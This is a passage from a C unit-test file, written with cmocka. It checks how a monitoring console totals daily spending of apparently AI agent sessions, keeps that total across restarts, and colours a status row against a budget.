	assert_true(spend_midnight(1795239663000) > 1795239663000 - 25 * 3600000);
}

static void spend_of_yesterday(const char *cost)
{
	char *all = xasprintf("file\t1795239600\t" UUID
	                      ".jsonl\n{\"totalCostUSD\":%s,\"startTime\":"
	                      "1795100000000}\n",
	                      cost);
	look("", "", all, "");
	free(all);
	spend_judge(w.store);
}

/* A session of the day before went from $5 to $7 today. The next console sees it first at $7.50,
 * and what it had cost in the morning is in the state folder. A damaged line and one of another day
 * count for nothing. */
static void what_today_cost_is_kept(void **state)
{
	char dir[] = "/tmp/test_spend.XXXXXX", path[60];
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/spend", dir);
	FILE *f = fopen(path, "we");
	assert_non_null(f);
	fputs("1\t9.0\tpi/session/" UUID "\nwhat is this\n", f);
	fclose(f);
	chmod(path, 0600);
	xreplace(&w.settings->state_dir, dir);
	spend_of_yesterday("5");
	assert_null(find("spent-today"));
	spend_of_yesterday("7");
	assert_string_equal(find("spent-today")->words, "$2.00 here, $2.00 in all");
	end_world(state);
	assert_int_equal(make_world(state), 0);
	xreplace(&w.settings->state_dir, dir);
	spend_of_yesterday("7.5");
	assert_non_null(find("spent-today"));
	assert_string_equal(find("spent-today")->words, "$2.50 here, $2.50 in all");
	unlink(path);
	rmdir(dir);
}

static void spend(const char *cost)
{
	char *all = xasprintf("file\t1795239600\t" UUID
	                      ".jsonl\n{\"totalCostUSD\":%s,\"startTime\":"
	                      "1795239650000}\n",
	                      cost);
	look("", "", all, "");
	free(all);
	spend_judge(w.store);
}

static void a_budget_turns_yellow_and_red(void **state)
{
	(void)state;
	spend("0");
	assert_null(find("spent-today"));
	spend("7.99"); /* no budget: it is said all the same */
	assert_int_equal(find("spent-today")->row.health, HEALTH_IDLE);
	assert_string_equal(find("spent-today")->words, "$7.99 here, $7.99 in all");
	assert_null(find("spent-today")->row.why);
	w.settings->budget = 1000;
	spend("7.99");
	assert_int_equal(find("spent-today")->row.health, HEALTH_IDLE);
	spend("8.00");
	assert_int_equal(find("spent-today")->row.health, HEALTH_ATTENTION);
	spend("10.00");
	assert_int_equal(find("spent-today")->row.health, HEALTH_BAD);
	assert_has(find("spent-today")->row.why, "at least $10.00 today, of a budget of $10.00");
	assert_has(find("spent-today")->words, "$10.00 here, $10.00 of $10.00");
	w.settings->budget = 0;
	spend_judge(w.store);
	assert_int_equal(find("spent-today")->row.health, HEALTH_IDLE);
}

#define T(name) cmocka_unit_test_setup_teardown(name, make_world, end_world)

int main(void)
{
	const struct CMUnitTest tests[] = {
		T(a_job_says_what_it_asks), T(a_job_that_ended),
		T(what_a_transcript_tells), T(an_end_is_marked_until_it_is_seen),
		T(what_is_used_of_a_plan), T(an_end_is_marked_until_it_is_seen),
		T(how_full_the_window_is), T(an_end_is_marked_until_it_is_seen),
		T(the_window_of_a_model), T(an_end_is_marked_until_it_is_seen),
		T(hostile_lines),           T(a_question_is_read),
		T(words_are_keys),          T(once_never_allows_more),
		T(lists_in_a_command_are_no_choices),
		T(rows_of_two_types_share_no_id),
		T(agents_of_herdr),         T(agents_by_their_process),
		T(a_look_is_due_off_the_screen), T(a_mark_is_kept_over_a_restart),
		T(a_git_state_is_read),     T(a_recording_keeps_no_word),
		T(what_today_cost_is_kept), T(what_today_cost),
		T(a_budget_turns_yellow_and_red),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
